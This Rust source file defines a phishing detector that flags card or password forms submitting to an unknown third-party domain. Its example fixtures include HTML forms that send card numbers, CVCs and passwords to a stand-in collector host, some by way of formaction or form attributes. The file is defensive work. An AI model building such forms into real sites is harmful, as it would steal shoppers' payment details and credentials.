//! Form sent elsewhere: what is typed in here, a card or a password, goes to a site that is neither this one nor known.
//!
//! Copied pages keep the shop's looks and send its visitors' secrets to a collector. Payment services, identity services and other domains of the
//! same owner are honest targets, and so is whatever serves the page itself.

use std::collections::BTreeMap;

use caveat_protocol::{Evidence, Strength, Subject};

use super::{Detector, Example, Found, Need};
use crate::derive::Derived;
use crate::site::{names, registrable};

pub(super) const DETECTOR: Detector = Detector {
    id: "form-sent-elsewhere",
    subject: Subject::Payment,
    needs: &[Need::Site, Need::Form],
    examples: &[
        Example::fires("<p>Your details<form action=https://collect.example/x.php><input autocomplete=cc-number><input autocomplete=cc-csc></form>", "collect.example"),
        Example::fires("<p>Your details<form action=https://collect.example/login><input type=password></form>", "collect.example"),
        Example::fires("<h1>Register<form action=https://collect.example/new.php><input type=email name=email><input type=password name=p1></form>", "collect.example"),
        Example::fires("<p>Pay<form action=/pay><input autocomplete=cc-number><input autocomplete=cc-csc><button formaction=https://collect.example/p>Pay</button></form>", "collect.example"),
        Example::fires("<p>Pay<form id=f action=https://collect.example/p></form><input form=f autocomplete=cc-number><input form=f autocomplete=cc-csc>", "collect.example"),
        Example::quiet("<p>Pay<form action=/pay><input autocomplete=cc-number><input autocomplete=cc-csc><button formaction=/later>Later</button></form>"),
        Example::quiet("<p>Your details<form action=https://secure.shop.test/pay><input autocomplete=cc-number><input autocomplete=cc-csc></form>"),
        Example::quiet("<p>Your details<form action=https://www.paypal.com/cgi-bin/webscr><input type=password></form>"),
        Example::quiet("<p>Your details<form action=https://news.example/subscribe><input name=email></form>"),
        Example::quiet("<p>Your details<form action=https://www.amazon.com/ap/signin><input type=password></form>").at("https://www.amazon.de/"),
    ],
    look,
};

fn look(derived: &Derived<'_, '_>) -> Vec<Found> {
    let page = derived.facts.page;
    let Some(here) = page.url().and_then(|url| registrable(url.host_str()?)) else { return Vec::new() };
    let secret = derived.facts.payment.forms.iter().filter(|form| form.takes_secret());
    let targets = secret.flat_map(|form| form.targets.iter().map(move |target| (form, target)));
    let elsewhere = targets.filter(|(_, target)| matches!(target.scheme(), "http" | "https")).find_map(|(form, target)| {
        let host = target.host_str()?;
        let there = registrable(host).unwrap_or(host);
        // A name that somebody stands for: a payment service, an identity service, the shop's other domain.
        let is_known = names::owner(there).is_some();
        (there != here && !is_known).then(|| (there, Evidence { quote: host.to_owned(), place: form.place.describe(page) }))
    });
    let found = elsewhere.map(|(there, evidence)| Found {
        strength: Strength::Strong,
        evidence: vec![evidence],
        args: BTreeMap::from([("here".to_owned(), here.to_owned()), ("there".to_owned(), there.to_owned())]),
        advice: &["enter_nothing", "open_site_yourself"],
    });
    found.into_iter().collect()
}
